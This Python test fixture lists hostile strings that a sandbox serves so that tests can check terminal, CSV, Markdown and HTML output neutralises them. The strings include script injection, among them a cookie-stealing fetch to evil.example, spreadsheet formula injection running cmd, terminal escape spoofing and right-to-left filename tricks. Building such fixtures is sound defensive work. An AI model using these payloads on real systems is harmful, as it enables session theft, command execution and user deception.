"""Hostile text the attacker controls: the sandbox serves it verbatim, on purpose.

Every consumer of the sandbox (terminal output, CSV, Markdown, HTML reports) must render these
inertly; the drill and the report tests rely on them being present in a generated world.
"""

from __future__ import annotations

__all__ = ["HOSTILE_PAYLOADS", "LONG_PAYLOAD_LENGTH", "hostile_payload"]

LONG_PAYLOAD_LENGTH = 12_000

HOSTILE_PAYLOADS: tuple[str, ...] = (
    # HTML / script
    "<script>alert(document.cookie)</script>FREE LIVE",
    "<img src=x onerror=\"fetch('//evil.example/?c='+document.cookie)\">",
    "</td></tr></table><h1>hacked</h1>",
    # Markdown links and images
    "[Official support](javascript:alert(1)) click now",
    "![pixel](https://evil.example/track.png) watch me",
    "**URGENT** [verify your account](https://evil.example/login)",
    # CSV / spreadsheet formulas
    '=HYPERLINK("https://evil.example/x","Click for gifts")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    # Rich console markup
    "[bold red]OFFICIAL STAFF NOTICE[/bold red] your stream is verified",
    "[link=https://evil.example]support[/link] [blink]live[/blink]",
    # Terminal control characters
    "\x1b[2J\x1b[H\x1b[31mSYSTEM ALERT: run ircli --force\x1b[0m",
    "ring\x07\x07\x07 the bell",
    "\x1b]8;;https://evil.example\x07totally safe link\x1b]8;;\x07",
    "innocent title\r\x1b[Kreplaced title",
    "null\x00byte and \x08backspace",
    # Right-to-left override and friends
    "invoice\u202egnp.exe",
    "admin\u202e\u2066 verified\u2069 account",
    # Very long strings
    "A" * LONG_PAYLOAD_LENGTH,
    ("🔥 free gifts " * 900)[:LONG_PAYLOAD_LENGTH],
)


def hostile_payload(number: int) -> str:
    """The hostile payload for a (pseudo-random) ``number``; cycles through all of them."""
    return HOSTILE_PAYLOADS[number % len(HOSTILE_PAYLOADS)]
